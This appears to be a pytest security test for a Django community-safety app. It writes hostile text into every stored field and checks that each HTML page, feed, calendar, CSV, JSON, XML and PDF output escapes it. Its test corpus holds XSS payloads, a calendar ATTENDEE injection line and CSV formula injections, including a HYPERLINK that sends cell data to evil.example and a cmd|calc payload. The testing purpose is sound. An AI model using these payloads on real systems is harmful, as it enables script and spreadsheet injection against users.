"""Hostile text in every writer: whatever is stored, every output parses and nothing in it runs.

The outputs are the access matrix's: every URL pattern Django routes, with the objects of its
world (tests/security/world.py), asked by someone who may read it (the public, the link's
holder, or a superuser for staff pages, the admin and the staff API). Every stored text of every
row, found from the models (every CharField and TextField that is not a code, a token or a
choice: MACHINE lists the exceptions), is overwritten straight in the database, as old rows and
imports would hold it, with one text of the corpus per round: every control character, markup
(`<script>`, `<b onmouseover=…>`, `]]>`, `&`), spreadsheet formulas (`=HYPERLINK(…)`, `+cmd|…`,
`-2+3`, `@SUM(…)`, tab- and CR-prefixed) and a line that tries to add a calendar property. Then:

- each answer is 200 and parses as what its Content-Type says (XML parser, icalendar, csv, json);
- HTML (pages, and an Atom summary sent as HTML) has no event handler, script or javascript: URL
  from the corpus, an Atom summary of residents' text is `type="text"`, no XML element comes
  from the corpus, a calendar carries no control character and no property it did not write;
- no CSV cell starts with a formula trigger (a plain number is not a formula);
- the text reached the output (its mark is there), unless the output is declared SILENT: a
  writer that drops the text is not a writer this test has checked.

Every non-HTML output must have a row in WRITERS naming its format, so a new feed, export or API
answer fails `test_every_writer_is_safe_on_hostile_text` until it is declared (and checked).
Text refused at the edge (the same characters, through every POST path) is the business of
tests/security/test_hostile_input.py.
"""

import csv
import io
import json
import logging
import re
import xml.etree.ElementTree as ET
from collections import Counter
from html.parser import HTMLParser

import icalendar
import pypdfium2
import pytest
from django.apps import apps
from django.core import mail
from django.core.cache import cache
from django.db import connection, models, transaction
from django.test import Client

from openbeat.concerns.models import Category, CategoryQuestion, Concern, Datatype
from openbeat.events.models import RSVP
from openbeat.events.tasks import send_rsvp_email
from openbeat.open311 import items as open311_items
from openbeat.projects.models import SignUp
from tests import factories
from tests.security.test_access_matrix import TABLE, ask, cells
from tests.security.world import PEOPLE

pytestmark = pytest.mark.django_db

MARK = "Qzhostile"
CONTROLS = (
    [chr(c) for c in range(0x20)]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + ["\ufffe", "\uffff"]
)
# No database driver stores a lone surrogate (both refuse to encode one): they are sent to the
# edge only. PostgreSQL cannot store a NUL either.
INJECTED_PROPERTY = "\r\nATTENDEE:mailto:mallory@example.org\r\n"
# Each text, and the formats it is run through: markup and control characters through every
# output; a formula only matters where a spreadsheet may open it, and is plain text in the rest
# (the markup round shows the rest escape it), so formulas go through every non-HTML output.
EVERYWHERE, NOT_HTML = None, "not html"
ROUNDS = {
    "markup": (
        EVERYWHERE,
        f"{MARK} <script>alert(1)</script><b onmouseover=alert(2)>b</b>"
        "<details open ontoggle=alert(3)>d</details><img src=x onerror=alert(4)>"
        '<svg onload=alert(5)> ]]> & &amp; <![CDATA[c]]> <a href="javascript:alert(6)">j</a>',
    ),
    "controls": (EVERYWHERE, f"\x0b=1+2 {MARK} {''.join(CONTROLS)}{INJECTED_PROPERTY}"),
    "hyperlink": (NOT_HTML, f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")'),
    "cmd": (NOT_HTML, f"+cmd|' /C calc'!A0 {MARK}"),
    "arithmetic": (NOT_HTML, f"-2+3+{MARK}"),
    "sum": (NOT_HTML, f"@SUM(1+1)*{MARK}"),
    "tab": (NOT_HTML, f"\t=1+2 {MARK}"),
    "carriage return": (NOT_HTML, f"\r=1+2 {MARK}"),
}
# Text fields that hold codes a program reads, not words a person wrote.
MACHINE = {
    "auth.user.password",
    "core.agency.timezone",
    "core.apikey.prefix",
    "core.apikey.hashed",
    "core.auditevent.action",
    "core.auditevent.object_type",
    "core.auditevent.object_id",
    "core.ratecounter.scope",
    "core.ratecounter.key",
    "concerns.concern.open311_item",  # JSON built from the other columns (open311/items.py)
    "events.event.rrule",
    "hotspots.hotspotmap.signature",
    "outreach.delivery.claimed_by",
}
HUMAN_MODELS = {"auth.user"}  # besides ours: staff names


def text_fields():
    """(model, field) for every stored text a person wrote, from the models themselves."""
    for model in apps.get_models():
        ours = model.__module__.startswith("openbeat.")
        if not ours and model._meta.label_lower not in HUMAN_MODELS:
            continue
        for field in model._meta.concrete_fields:
            label = f"{model._meta.label_lower}.{field.name}"
            machine = (
                isinstance(field, models.SlugField | models.EmailField | models.URLField)
                or field.choices
                or field.unique
                or field.name == "language"
                or label in MACHINE
            )
            if isinstance(field, models.CharField | models.TextField) and not machine:
                yield model, field


def fill(text):
    """Every text field of every row holds `text` (cut to the column's length), as an old row or
    an import could; returns how many columns were filled."""
    by_model = {}
    for model, field in text_fields():
        value = text[: field.max_length] if field.max_length else text
        by_model.setdefault(model, {})[field.name] = value
    for model, values in by_model.items():
        model._base_manager.update(**values)
    # The one JSON of words: a question's choices (Open311 service attributes).
    CategoryQuestion.objects.update(choices=[{"key": "yes", "name": text[:200]}])
    cache.clear()  # the page cache knows nothing of writes that skip the actions
    # Nor do the stored Open311 items: built again, as the worker's fill_missing would.
    open311_items.refresh(Concern.objects.values_list("pk", flat=True))
    return sum(len(values) for values in by_model.values())


def storable(text):
    return text.replace("\x00", "") if connection.vendor == "postgresql" else text


# -- Which outputs there are, and what each must be -------------------------------------------------

ATTACHMENT = "the RSVP email's calendar"  # the one writer without a URL
# Every output that is not an HTML page, by URL pattern: its format.
WRITERS = {
    "agency_feed": "ics",
    "agency_meetings_json": "json",
    "feed": "ics",
    "events:occurrence_ics": "ics",
    "events:occurrence_flyer_pdf": "pdf",
    "events:event_flyer_pdf": "pdf",
    "concerns:area_feed": "atom",
    "outreach:agency_feed": "atom",
    "outreach:area_feed": "atom",
    "outreach:topic_feed": "atom",
    "opendata:export": "csv|json",
    "concerns:pins": "json",
    "staff:records_export": "csv",
    "staff:project_roster_csv": "csv",
    "staff:project_hours_csv": "csv",
    "staff:engagement_csv": "csv",
    "api:list_meetings": "json",
    "api:get_meeting": "json",
    "api:list_concerns": "json",
    "api:get_concern": "json",
    "api:staff_list": "json",
    "api:staff_get": "json",
    "api:openapi-json": "json",
    "open311:discovery": "json|xml",
    "open311:services": "json|xml",
    "open311:service": "json|xml",
    "open311:requests": "json|xml",
    "open311:request": "json|xml",
    "open311:token": "json|xml",
    "healthz": "json",
    "brand_css": "css",
    "concerns:photo": "jpeg",
    "officer_photo": "jpeg",
    "staff:concern_photo": "jpeg",
    "media/logos/<path:path>": "png",
    "admin:jsi18n": "js",
    "staff:service_worker": "js",
    ATTACHMENT: "ics",
}
# Outputs that show no stored text, and why: everything else must show the round's mark.
SILENT = {
    "healthz": "the server's health",
    "staff:service_worker": "a fixed script (static/openbeat/offline-sw.js)",
    "brand_css": "the site agency's colour, written only when it is #rrggbb (core.views.brand_css)",
    "api:openapi-json": "the API's description",
    "api:openapi-view": "the API's documentation page",
    "concerns:photo": "a re-encoded photo",
    "officer_photo": "a re-encoded photo",
    "staff:concern_photo": "a photo",
    "media/logos/<path:path>": "a logo",
    "open311:discovery": "the endpoints",
    "open311:token": "a token's request id",
    "staff:login": "a form",
    "staff:password_reset": "a form",
    "staff:password_reset_done": "a sentence",
    "staff:password_reset_confirm": "a form",
    "admin:login": "a form",
    "admin:jsi18n": "the admin's translations",
    "staff:concern_forget": "a question about the reporter's data",
    "outreach:subscribe_sent": "a sentence",
}
FORMATS = {
    "application/atom+xml": "atom",
    "text/xml": "xml",
    "text/calendar": "ics",
    "text/csv": "csv",
    "application/json": "json",
    "application/geo+json": "json",
    "text/html": "html",
    "image/jpeg": "jpeg",
    "image/png": "png",
    "application/javascript": "js",
    "text/javascript": "js",
    "text/css": "css",
    "application/pdf": "pdf",
}
READERS = ("anonymous", "resident", "superuser")


def _outputs(world):
    """One request per URL pattern and object of one agency (the other agency's are alike), by
    the first reader it is declared to answer 200."""
    people = {p.name: p for p in PEOPLE}
    for key in TABLE:
        for name in READERS:
            chosen = [
                cell
                for cell in cells(world, key, people[name])
                if cell.call.method == "GET"
                and (cell.thing is None or cell.thing.owner in ("smyrna", None))
                and cell.call.rule(cell.person, cell.thing, cell.fixed).status == 200
            ]
            if chosen:
                yield from chosen
                break


# -- Checking one answer -----------------------------------------------------------------------------


class LiveMarkup(HTMLParser):
    """Finds what a browser would run in a page: handlers, inline script, javascript: URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self._script = None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction") and (
                value or ""
            ).strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}=javascript:…>")
        if tag == "script":
            self._script = dict(attrs)

    def handle_data(self, data):
        if self._script is None:
            return
        if self._script.get("type") in ("application/json", "application/ld+json"):
            # json_script escapes < > &: the data can neither end the element nor start markup.
            if "<" in data:
                self.found.append("a < inside a data <script>: it can end the element")
        elif "alert(" in data or MARK in data:
            self.found.append("the text inside a <script> that runs")

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None


def live_markup(html):
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


CORPUS_TAGS = {"script", "b", "details", "img", "svg", "a"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
ICS_CONTROL = re.compile("[\x00-\x08\x0a-\x1f\x7f]")


def _atom(body):
    root = ET.fromstring(body)
    found = []
    for summary in root.iter("{http://www.w3.org/2005/Atom}summary"):
        kind = summary.get("type", "text")
        if kind == "html":
            found += [f"summary: {m}" for m in live_markup(summary.text or "")]
        elif kind != "text":
            found.append(f"a summary of type {kind}")
    found += _xml_elements(root, "{http://www.w3.org/2005/Atom}")
    return found, ET.tostring(root, encoding="unicode", method="text")


def _xml_elements(root, namespace=""):
    return [
        f"an element <{element.tag}> from the text"
        for element in root.iter()
        if element.tag.removeprefix(namespace) in CORPUS_TAGS
    ]


def _xml(body):
    root = ET.fromstring(body)
    return _xml_elements(root), ET.tostring(root, encoding="unicode", method="text")


def _ics(body):
    calendar = icalendar.Calendar.from_ical(body)
    found = []
    unfolded = re.sub(r"\r\n[ \t]", "", body)
    for line in unfolded.split("\r\n"):
        if ICS_CONTROL.search(line):
            found.append(f"a control character in the line {line[:40]!r}")
    for component in calendar.walk():
        if "ATTENDEE" in component:
            found.append("a property (ATTENDEE) written by the text")
    text = " ".join(str(v) for c in calendar.walk() for v in c.values())
    return found, unfolded + text


def _csv(body):
    found = []
    for number, row in enumerate(csv.reader(io.StringIO(body, newline=""))):
        for cell in row:
            if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell):
                found.append(f"row {number} has a cell a spreadsheet runs: {cell[:30]!r}")
    return found, body


def _json(body):
    return [], json.dumps(json.loads(body), ensure_ascii=False)


def _html(body):
    return live_markup(body), body


PDF_CONTROL = re.compile("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _pdf(body):
    """A printed flyer: PDFium opens it, it is one page, and its text (as a reader or a screen
    reader extracts it) holds no control or reordering character; line ends are PDFium's."""
    document = pypdfium2.PdfDocument(body)
    found = [] if len(document) == 1 else [f"{len(document)} pages, not one"]
    text = "".join(page.get_textpage().get_text_range() for page in document)
    found += [f"the character {ord(c):#06x} in its text" for c in set(PDF_CONTROL.findall(text))]
    return found, text


PARSERS = {"atom": _atom, "xml": _xml, "ics": _ics, "csv": _csv, "json": _json, "html": _html}
BINARY_PARSERS = {"pdf": _pdf}


def problems_with(key, status, content_type, body, round_name, raw=b""):
    """What is wrong with one answer (empty when nothing), its format, and whether the text
    reached it (`raw`: the answer's bytes, for the binary formats)."""
    kind = FORMATS.get(content_type.split(";")[0].strip())
    if status != 200:
        return [f"answered {status}"], kind, False
    if kind is None:
        return [f"a new format {content_type!r}: teach this test to read it"], kind, False
    declared = WRITERS.get(key, "html").split("|")
    if kind not in declared:
        return (
            [
                f"answers {kind}, but WRITERS declares {'|'.join(declared)} (a new non-HTML output "
                "needs a row in WRITERS, tests/security/test_hostile_text.py)"
            ],
            kind,
            False,
        )
    if kind not in PARSERS and kind not in BINARY_PARSERS:
        return [], kind, False  # images and scripts: no stored text
    try:
        found, text = PARSERS[kind](body) if kind in PARSERS else BINARY_PARSERS[kind](raw)
    except Exception as exc:  # noqa: BLE001 (any parser's refusal is the finding)
        return [f"does not parse as {kind}: {type(exc).__name__}: {str(exc)[:120]}"], kind, False
    return found, kind, MARK in text


# -- The test ------------------------------------------------------------------------------------------

CHECKED = Counter()


@pytest.fixture(scope="module")
def readers(world):
    log = logging.getLogger("django.request")
    level = log.level
    log.setLevel(logging.CRITICAL)  # a 500 is the finding, reported below with its URL
    found = {name: Client(raise_request_exception=False) for name in READERS}
    factories.sign_in(found["superuser"], world.users["superuser"])
    yield found
    log.setLevel(level)


def _attachment(world):
    """The calendar attached to a resident's confirmation email (a writer without a URL), as
    (status, body): a writer that raises is a 500 like any other."""
    mail.outbox = []
    rsvp = RSVP.objects.get(pk=world.things["event", "smyrna"].refs["rsvp"])
    try:
        send_rsvp_email.call(rsvp.pk, "confirmed")
    except Exception:  # noqa: BLE001 (the failure is reported with the others)
        return 500, ""
    (message,) = mail.outbox
    (_name, content, _type) = message.attachments[0]
    return 200, content.decode() if isinstance(content, bytes) else content


def _more_to_show():
    """What the world lacks for two writers to show text: a question with choices on a public
    category (Open311's service definition), and hours worked (the volunteer hours export)."""
    category = Category.objects.get(agency__slug="smyrna-pd", slug="noise")
    CategoryQuestion.objects.create(
        category=category, code="when", question="When?", datatype=Datatype.SINGLE
    )
    SignUp.objects.update(hours=2)


def test_every_writer_is_safe_on_hostile_text(world, readers):
    stale = (WRITERS.keys() | SILENT.keys()) - TABLE.keys() - {ATTACHMENT}
    assert not stale, f"WRITERS or SILENT name URL patterns that no longer exist: {stale}"
    outputs = list(_outputs(world))
    found = []
    for round_name, (formats, text) in ROUNDS.items():
        reached, asked = set(), set()
        with transaction.atomic():
            _more_to_show()
            CHECKED["text columns filled"] = fill(storable(text))
            for cell in outputs:
                if formats == NOT_HTML and WRITERS.get(cell.key, "html") == "html":
                    continue
                url, response, body = ask(readers[cell.person.name], cell)
                raw = b"" if response.streaming else response.content
                problems, kind, shown = problems_with(
                    cell.key, response.status_code, response["Content-Type"], body, round_name, raw
                )
                CHECKED[f"{kind} answers"] += 1
                asked.add(cell.key)
                reached |= {cell.key} if shown else set()
                found += [f"{round_name}: {cell.key} ({url}): {p}" for p in problems]
            status, body = _attachment(world)
            problems, _kind, shown = problems_with(
                ATTACHMENT, status, "text/calendar", body, round_name
            )
            asked.add(ATTACHMENT)
            reached |= {ATTACHMENT} if shown else set()
            found += [f"{round_name}: {ATTACHMENT}: {p}" for p in problems]
            transaction.set_rollback(True)
        found += [
            f"{round_name}: {key}: the text reached none of its answers; fix the writer, or "
            "declare the output SILENT"
            for key in sorted(asked - reached - SILENT.keys())
        ]
        found += [
            f"{round_name}: {key} shows the text: remove it from SILENT, so it is checked"
            for key in sorted(reached & SILENT.keys())
        ]
    CHECKED["outputs"] = len(outputs) + 1
    CHECKED["rounds"] = len(ROUNDS)
    CHECKED["control characters"] = len(CONTROLS)
    assert not found, f"{len(found)} unsafe outputs:\n" + "\n".join(found)


def test_every_stored_text_is_filled(world):
    """The fill reaches the texts the outputs show: a model's new text field is filled unless
    MACHINE says a program reads it (then it is a code, not words)."""
    labels = {f"{m._meta.label_lower}.{f.name}" for m, f in text_fields()}
    for expected in (
        "concerns.concern.description",
        "concerns.concern.reporter_name",
        "events.event.title",
        "outreach.announcement.body",
        "auth.user.first_name",
    ):
        assert expected in labels
    assert not MACHINE & labels
